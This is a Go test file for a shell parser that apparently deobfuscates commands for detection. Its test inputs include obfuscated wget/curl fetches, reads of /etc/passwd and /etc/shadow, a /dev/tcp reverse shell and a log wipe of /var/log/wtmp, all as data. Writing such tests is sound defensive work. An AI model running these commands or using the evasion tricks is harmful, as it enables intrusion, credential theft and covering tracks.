package shell

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func texts(list [][]byte) []string {
	var out []string
	for _, t := range list {
		out = append(out, string(t))
	}
	return out
}

// checkList parses each text and compares one list of what it runs, one text per line.
func checkList(t *testing.T, list func(*Commands) [][]byte, rows [][2]string) {
	t.Helper()
	var p Parser
	for _, row := range rows {
		got := strings.Join(texts(list(p.Parse([]byte(row[0])))), "\n")
		if diff := cmp.Diff(row[1], got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", row[0], diff)
		}
	}
}

func segmentsOf(c *Commands) [][]byte  { return c.Segments }
func pipelinesOf(c *Commands) [][]byte { return c.Pipelines }
func programsOf(c *Commands) [][]byte  { return c.Programs }
func decodedOf(c *Commands) [][]byte   { return c.Decoded }

func TestQuotesAreUndone(t *testing.T) {
	checkList(t, segmentsOf, [][2]string{
		{`w\get 'http://h/a'`, `wget http://h/a`},
		{`'w''g'e"t" h`, `wget h`},
		{`w''g""et h`, `wget h`},
		{`\wget h; \\wget`, "wget h\n\\wget"},
		{"wg\\\net h", `wget h`},
		{"wg\\\r\net \"a\\\nb\"", `wget ab`},
		{`echo "a\"b\$c\d" 'e\f' g\ h`, `echo a"b$c\d e\f g h`},
		{`echo  a	b '' "" c`, `echo a b c`},
		{`$'\x77get' $'\150\'\t\u0041\n'`, "wget h'\tA\n"},
		{`$"wget" h`, `wget h`},
		{`echo a#b # comment; rm x`, `echo a#b`},
		{`echo \`, `echo`},
		{`echo '\x41'`, `echo \x41`},
	})
}

func TestQuotesWithoutAnEnd(t *testing.T) {
	checkList(t, segmentsOf, [][2]string{
		{`bar"; wget h`, "bar\nwget h"},
		{`bar'; wget h`, "bar\nwget h"},
		{`echo "it's"; it's "fun"; id`, "echo it's\nits fun\nid"},
		{`a "b" c"; d "e f" g`, `a b c; d e f g`},
		{`a $(b "c; d`, "b c\nd\na $(b \"c; d"},
		{"$'a; b", `a; b`},
		{`sh -c 'a"; b'`, "sh -c a\"; b\na\nb"},
	})
}

func TestExpansions(t *testing.T) {
	checkList(t, segmentsOf, [][2]string{
		{`cat${IFS}/etc/passwd;cat$IFS$9/etc/group`, "cat /etc/passwd\ncat /etc/group"},
		{`wget$IFS-q${IFS}h`, `wget -q h`},
		{`echo "a${IFS}b"`, `echo a b`},
		{`w$@get h; c$*url h; $@id; l${@}s; who"$@"ami`, "wget h\ncurl h\nid\nls\nwhoami"},
		{`f "$@" $1 x$1`, `f $@ $1 x$1`},
		{`w${u}get h; cat /etc/p${z}asswd; ls ${dir} $x/y`, "wget h\ncat /etc/passwd\nls ${dir} $x/y"},
		{`a=wget; $a h; "$a" h2; ${a}2`, "a=wget\nwget h\nwget h2\nwget2"},
		{`a=wg b=et; $a$b h`, "a=wg b=et\nwget h"},
		{`a='wget -q'; $a h; "$a"`, "a=wget -q\nwget -q h\nwget -q"},
		{`a=wg; a+=et; $a h`, "a=wg\na+=et\nwget h"},
		{`export a=curl b; $a h`, "export a=curl b\ncurl h"},
		{`a=x; a=$y; $a`, "a=x\na=$y\n$a"},
		{`IFS=,; a=cat,/etc/passwd; $a`, "IFS=,\na=cat,/etc/passwd\ncat /etc/passwd"},
		{`${HOME:0:1}bin${PATH:0:1}cat x`, `cat x`},
		{`a=wgetx; ${a:0:4} h; ${a:1:1}; ${a:9}`, "a=wgetx\nwget h\ng\n${a:9}"},
		{`${x:-wget} h; ${x:=curl} h; ${y:+ls} z; ${x-'a b'}`, "wget h\ncurl h\nz\na b"},
		{`a=cat; ${a:-wget} f; ${a:+id}`, "a=cat\ncat f\nid"},
		{`echo ${a%%:*} ${#a} ${a/b/c} $? $! $$ $`, `echo ${a%%:*} ${#a} ${a/b/c} $? $! $$ $`},
		{`echo $((1+(2))) x`, `echo $((1+(2))) x`},
		{`a=(1 2); echo ${a[0]}`, "a= 1 2\necho ${a[0]}"},
	})
}

func TestBraceLists(t *testing.T) {
	checkList(t, segmentsOf, [][2]string{
		{`{wget,-q,http://h/a}`, `wget -q http://h/a`},
		{`cat /etc/{passwd,shadow}`, `cat /etc/passwd /etc/shadow`},
		{`cp f{,.bak} {.bak,}f`, `cp f f.bak .bakf f`},
		{`{,wget,} h{a,{b,c}}`, `wget ha h{b,c}`},
		{`echo {a} {} "{a,b}" {a\,b} {a,b a,b}`, `echo {a} {} {a,b} {a,b} {a,b a,b}`},
	})
}

func TestChains(t *testing.T) {
	checkList(t, segmentsOf, [][2]string{
		{"cd /tmp||cd /var;a&&b&c\nd | e |& f", "cd /tmp\ncd /var\na\nb\nc\nd\ne\nf"},
		{"wget h\r\ncurl h\r\n", "wget h\ncurl h"},
		{`(cd /tmp; (a; b)) & { c; d; } > o`, "cd /tmp\na\nb\nc\nd\n> o"},
		{`if [ -f x ]; then a; elif b; then c; else d; fi`, "[ -f x ]\na\nb\nc\nd"},
		{`while ! a; do b; done; until c; do d; done`, "a\nb\nc\nd"},
		{`for i in a b; do wget $i; done; select x in c; do d; done`, "for i in a b\nwget $i\nselect x in c\nd"},
		{`case $x in a|b) ls;; (*) id;; esac; w`, "case $x in\nls\nid\nw"},
		{`f() { a; }; function g { b; }; h () (c)`, "a\nb\nc"},
		{`coproc a; [[ -f x ]] && b; ((i++)); "if" c`, "a\n[[ -f x ]]\nb\nif c"},
		{`echo if; echo } )`, "echo if\necho }"},
		{`a $(b; c) $(d)`, "b\nc\nd\na $(b; c) $(d)"},
		{"a `b` \"$(c \"$(d)\")\"", "b\nd\nc $(d)\na `b` $(c \"$(d)\")"},
		{"echo `echo \\`id\\``", "echo `id`\nid"},
		{`diff <(a) >(b)`, "a\nb\ndiff <(a) >(b)"},
		{`$(echo wget) h; $(true)id; c$(:)at f`, "echo wget\nwget h\ntrue\nid\n:\ncat f"},
		{`id; id; id`, `id`},
	})
}

func TestTextsThatRunNothing(t *testing.T) {
	checkList(t, segmentsOf, [][2]string{
		{``, ``},
		{" \t\n", ``},
		{` #comment `, `#comment`},
		{`;;& ||`, `;;& ||`},
		{`$(`, `$(`},
		{`"`, `"`},
	})
}

func TestRedirections(t *testing.T) {
	checkList(t, segmentsOf, [][2]string{
		{`> /var/log/wtmp`, `> /var/log/wtmp`},
		{`ls >/dev/null 2>&1 1>&2 2>&- <&-`, `ls > /dev/null`},
		{`ls 2>/dev/null 1>a 0<b 3>c`, `ls 2> /dev/null > a < b 3> c`},
		{`>/tmp/x wget <&196 -q h 2>&196`, `wget -q h > /tmp/x <&196 2>&196`},
		{`bash -i >& /dev/tcp/h/1 0>&1`, `bash -i > /dev/tcp/h/1`},
		{`a &>b; a &>>c; a >|d; cat<>e; exec 5<>f`, "a > b\na >> c\na > d\ncat <> e\nexec 5<> f"},
		{`a>"b c"$x`, `a > b c$x`},
		{`echo 2 >a; echo x2>a`, "echo 2 > a\necho x2 > a"},
		{`cat <<< "$(id)"`, "id\ncat <<< $(id)"},
		{"cat << 'E' <<- F; b\n1\nE\n2\n\tF\nid", "cat << E << F\nb\nid"},
		{"cat <<E\n1\n2", "cat << E"},
		{`a <`, `a`},
	})
}
